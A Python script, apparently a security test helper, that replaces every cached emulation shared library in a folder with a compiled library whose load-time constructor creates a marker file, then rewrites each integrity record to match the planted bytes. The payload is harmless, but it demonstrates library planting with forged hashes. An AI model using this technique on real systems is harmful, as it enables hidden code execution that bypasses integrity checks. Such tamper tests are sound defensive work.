#!/usr/bin/env python3
"""plant_library.py CACHE/emu MARKER: replaces every cached emulation
library in CACHE/emu by one whose constructor creates MARKER (code that
someone else planted), and rewrites each record to match the planted bytes,
as a user who can write the folder could. Needs a host C compiler."""
import glob
import hashlib
import os
import subprocess
import sys
import tempfile

emu, marker = sys.argv[1], sys.argv[2]
with tempfile.TemporaryDirectory() as tmp:
    src = os.path.join(tmp, "planted.c")
    lib = os.path.join(tmp, "planted.so")
    open(src, "w").write(
        '#include <stdio.h>\n'
        '__attribute__((constructor)) static void planted(void) {\n'
        f'  FILE *f = fopen("{marker}", "w"); if (f) fclose(f);\n'
        '}\n')
    subprocess.run(["cc", "-shared", "-fPIC", "-o", lib, src], check=True)
    planted = open(lib, "rb").read()
libs = glob.glob(os.path.join(emu, "*.so"))
if not libs:
    sys.exit(f"no cached library in {emu}")
for path in libs:
    key = os.path.basename(path)[:-3]
    open(path, "wb").write(planted)
    record = (f"moe-emu-library 1\nkey {key}\nsize {len(planted)}\n"
              f"sha256 {hashlib.sha256(planted).hexdigest()}\n")
    open(os.path.join(emu, key + ".record"), "w").write(record)
print(f"planted {len(libs)} libraries")
